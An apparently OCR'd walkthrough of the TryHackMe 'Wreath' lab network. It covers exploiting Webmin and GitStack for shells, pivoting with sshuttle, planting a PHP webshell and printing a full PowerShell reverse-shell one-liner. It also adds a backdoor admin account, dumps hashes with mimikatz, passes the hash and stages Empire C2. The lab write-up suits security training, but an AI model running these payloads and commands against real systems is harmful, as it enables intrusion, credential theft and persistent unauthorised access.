TryHackMe Wreath Writeup

Executive Summary

In this engagement, we accessed a network with three machines. Starting by exploiting a known vulnerability in a public-facing web server, we obtained areverse shell. Usingpivoting, we compromised a vulnerable Windows machine through a command injection flaw. Exploiting another vulnerability, we gained access to an internal machine. Throughout, we conducted source code analysis and obfuscation. Finally, we compromised the last host protected by AV software. We’ll cover every phase of the kill chain, including enumeration, initial compromise, privilege escalation, and post-exploitation.


First we start with an nmap scan of the first 15000 ports of our first target, and save the results to a dedicated nmap subdirectory for our engagement. Port 80 is open which piques my interest. I’ll proceed to perform a more in depth scan on the open ports to see what services are running.

nmap -T4 -sC -sV -p22,80,443,10000 -oAnmap/detailed

When I navigate to there is a server error as it’s attempting to access thomaswreath.thm, so the next move is to add an entry in the /etc/hosts file to map our IP address to the domain it was trying to reach.

Now when we navigate to thomaswreath.thm , we’re met with a proper web page which looks to be a portfolio site providing insight on our client. I try to identify low-hanging fruit such as a robot.txt file that may list hidden directories or inspect the source code for any revealing comments but we’re met with a dead end. So let’s inspect the other ports.

From our nmap scan, we see that MiniServ.1890 is vulnerable to CVE-2019-15107. It is a command injection vulnerability that resides in the old parameter in password_change.cgi . There’s an exploit I found here that allows us to exploit that in order to obtain a reverse shell on the server.

Initial Foothold

Once we’ve downloaded the repository for the exploit (my preferred method is git clone ), we can run pip3 install -r requirements.txt to install all of the necessary dependencies in order for the exploit to run. From there we can run a command specifying our target’s IP address. If the exploit is successful, it’ll automatically enforce SSL to properly execute the payload but sometimes you’ll have to rerun the script a few times to get it work.


We can utilize the exploit’s built-in shell command to generate a reverse shell. We’ll specify a IP address (since I’m connected to the network via a VPN, I’m using my tun0 interface) and the port.

To obtain our reverse shell connection, we’ll need to create a listener on our specified port with netcat on a different tab.

nc -nvlp 1337

Since we’ve obtained a root shell, let’s grab theuser’s id_rsa file so we can maintain a stable persistent access to the shell via SSH. The id_rsa is the private key needed to access a server via SSH and it’s typically located in the user’s home directory as a hidden file. The general syntax will be /user/.ssh/id_rsa . In our case, it will be located in /root/.ssh/id_rsa . I used cat to output the contents of the file and copied the output into a file I called id_rsa and saved it in a directory specific to this engagement. I used chmod 600 to change the permissions of the file as SSH doesn’t like when we’re too liberal with the access we provide such files.

We can now utilize SSH to gain persistent access to our target. The -i is how

ssh root@thomaswreath.thm -i id_rsa


My General Methodology for Pivoting:

  1. Gain an initial foothold and compromise a server
  2. Perform internal enumeration to identify other hosts on the internal network to set as your targets to pivot.
  3. Utilize a pivoting method – tunneling/proxying or port forwarding

The first step is to enumerate the network through a compromised host. My favorite technique to enumerate an internal network is by using a statically compiled binary of nmap. I used this binary and set up a python web server on my attack machine via python3 -m http.server 80 on port 80 and then from the compromised host, I executed a request to that file located on my newly hosted server to grab that copy. The -o indicates where the file will be stored on the compromised host’s filesystem (/tmp is recommended as the directory is typically writable and any files saved to that directory will leave) and chmod +x is how we enable the file to be executable.

curl -o /tmp/nmap-thecyberbarbie && chmod +x /tmp/nmap-thecyberbarbie

Now we can fire off the statically compiled version of nmap and scan for any live hosts that live on the subnet 10.200.96.x and save the output of the nmap scan to scan-thecyberbarbie . The -sn denotes that we do not want toperform a port scan.

./nmap-thecyberbarbie -sn -oN scan-thecyberbarbie

What’s within the scope of our engagement is and, as the other hosts are related to the router, a VPN server as well as the compromised machine.

Live Hosts

Now that we’ve obtained a list of valid targets, we’ll perform a port scan with our statically compiled nmap tool to identify open ports and running services. The -Pn flag is how we tell nmap to still probe for open ports and to skip the ICMP host discovery phase even if the target doesn’t respond to ICMP echo requests. We’ll save the results to a file called ports-thecyberbarbie. It looks like on host, there is a web server hosted on port 80 so we’ll make that our primary focus for pivoting.

./nmap-thecyberbarbie -Pn -n,150 -oN ports-thecyberbarbie

My favorite method of pivoting is using sshuttle . By utilizing our SSH credentials for root user on our compromised host,, we can utilize the --ssh-cmd flag to execute SSH commands that we’ll use to supply our id_rsa file and gain access to the network. When prompted for thepassword, supply your local ATTACKER sudo password.

sshuttle -r root@ --ssh-cmd "ssh -i id_rsa" -x

Now we can navigate to in our attack machine’s web browser!

We’re met with a 404 that leaks critical information about the Django web application. This occurred because the Django application was configured with DEBUG = True in the settings file. If we navigate to /gitstack endpoint , we are met with a login page. I tried default credentials of admin:admin to no success. So, off to find an exploit.

I utilized Searchsploit to search for exploits related to GitStack and found an exploit that leads to remote code execution so I used search -m 43777 to copy the file to the directory we’re already in for our engagement.

Let’s analyze the code for theexploit! It’s a Python script that allows an unauthenticated, remote attacker to obtain remote code execution due to the $_SERVER['PHP_AUTH_PW'] function directly passing input to exec function without sanitization. The exec function allows one to execute system commands. We can exploit this to run arbitrary malicious commands if we so choose (and will).

We’ll have to tweak a few things in the exploit to get it to work. First we’ll set the IP address variable to a string containing Gitstack’s IP address on line 22. Next on line 24 we’ll set the command variable to system command we want to execute. From our enumeration scan, we know that the underlying server is running Windows so we’ll use the whoami command which will, if successful, will return the identity of the user running on the system.

The script will attempt to create a backdoor in PHP by creating a file on the web server.

I named my file /exploit-thecyberbarbie.php on line 78 and 81 and it’s utilizing a POST request so that we can send commands via a variable called a.

Now we’ve tailored our exploit and we’re ready to execute.


We should see the output of the a command when we run the script, indicating our exploit was indeed successful.

Now let’skick it up a notch and utilize our exploit to explore our capabilities. Let’s try to issue a POST request with CURL to the file and execute a ping command to see if this host located on the internal network can communicate externally bysending ICMP packets to our attack host.

First, we’ll utilize tcpdump to list for incoming ICMP traffic

sudo tcpdump -i tun0 icmp

Next, we’ll issue the POST request, sending 3 ICMP packets to our attack machine.

curl -X POST http://gitserver.thm/web/exploit-thecyberbarbie.php -d "a=ping n 3"

We can also navigate to our webshell via Burp Suite and forward to repeater to modify the HTTP request and view the responses. I will typically use FoxyProxy (a browser extension for Burp Suite) to intercept and listen for HTTP traffic and then send a specify request Iwant to modify to the repeater tab.

On our first compromised host,, firewalld is running which is a firewall management tool that comes pre-installed on CentOS and other Red Hat-based Linux distributions. By default the tool is restrictive and only allows traffic to port 22, SSH. Let’s apply a firewall rule that allows incoming traffic to a desired port (in my case, port 22222) using the TCP protocol.

firewall-cmd --zone=public --add-port 22222/tcp

Next, we’ll open a port on that host via nc -nvlp 22222 to listen for incoming traffic to that port.

Let’s craft a POST request containing a malicious powershell payload that contains a reverse shell connection to the port. Modify the values of IP and port to compromised host and newly opened port. We’ll have to encode the payload.You can highlight the payload and hit Ctrl + u or right click and select encode -> URL encode key characters in Burp Suite. The attack is successful as our netcat shows a successful connection from our target ending in .150 .

powershell.exe -c "$client = New-Object System.Net.Sockets.TCPClient('IP',PORT);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"

If we hit enter in the netcat session, we’re met with a powershell prompt and we are nt authority\system, which is the highest-level user on a Windows system.

From our earlier nmap scan, we know that this target has ports 3389 and 5985 which represent RDP and WinRM, meaning we can remotely access theshell in a GUI. We can use Remmina which is a Linux tool that we can use to remotely connect to the machine.

Since we are NT Authority\system, we can create a user to carry out this task!

First, add a user by creating a username and password

net user cyberbarbie P@$$w0rd! /add

Next, assign the user to the Administrators group

net localgroup Administrators cyberbarbie /add

Lastly, add the user to the “Remote Management Users” group

net localgroup "Remote Management Users" cyberbarbie /add

Now, we can RDP via remmina using our newly-created credentials

And voila, we now have our own Windows desktop.Alternatively, we can use evil-winrm to remotely access our shell.

evil-winrm -u cyberbarbie -p marksanchez -i

Now that we’ve obtained persistence on our newly-compromised host, we can utilize mimikatz to dump the local SAM hashes on the Windows host.

First we’ll create a shared drive via xfreerdp for our user so that we can access a set of Powershell scripts on the windows host without having to remotely download the tools on the filesystem.

xfreerdp /v: /u:cyberbarbie /p:marksanchez +clipboard /dynamic-resolution /drive:/usr/share/windows-resources,thecyberbarbieshare

Now in Powershell on the compromised target, we can access the windows resources from our Kali machine to run mimikatz.


We can now perform token impersonation for the NT AUTHORITY\SYSTEM user and then dump the SAM hashes for the local system.


Now let’s save the admin NTLM hash which we can use later!

Next, we’ll use evil-winrm to utilize our newly captured administrator hash to gain a shell

evil-winrm -u Administrator -H <hash> -i

Command and Control (C2) with Empire

So far we’ve create a local administrator account, dumped the local SAM hash to grab an administrator hash and pivoted via SSH tunneling courtesy of sshuttle. Now we’lluse a C2 to not only maintain persistence within the network but to also aid in our post-exploitation efforts. Powershell Empire is a framework built to primarily attack Windows targets and we’ll target the Gitstack server.

First we’ll start the empire server on our attack machine:

sudo powershell-empire server

Next, we’ll set up the client.

sudo powershell-empire client

We can view the empire GUI by navigating to localhost:1337 in the browser. The default credentials are empireadmin:password123

Since our Gitstack server in the internal network doesn’t have the ability to communicate directly with our external attack machine, we’ll set up an HTTP listener

In the empire client run, uselistener/http. I set the name to CLIHTTP and had it listen on port 9000. When we run execute it will create the listener and we can view it in the empire GUI or directly in the client by executing listeners .

Next we’ll create a multi-stager to execute our malicious payload and will use Bash.

usestager multi_bash
set Listener CLIHTTP

When we run execute, it will provide themalicious payload we’ll need! It already base64-encoded the payload!

On the initially compromised server on .200, we’ll create a file to save this payload and execute it.


If successful, we can see it created an agent on our empire server and view it via running the agents command.

We can interact with the agent via interact <ID>. In my case, I’ll use IODPM5WA.

interact IODPM5WA

Now well can execute shell commands on our target via shell for instance

Double Pivoting

So now let’s try to perform a port scan on, a target we previously didn’t have access to. First we’ll utilize evil-winrm to connect to and load powershell scripts. Since we have powerhell-empire up and running, we’ll be utilizingtheir situational awareness module which provides a set of scripts you can use against your compromised target to perform enumeration.

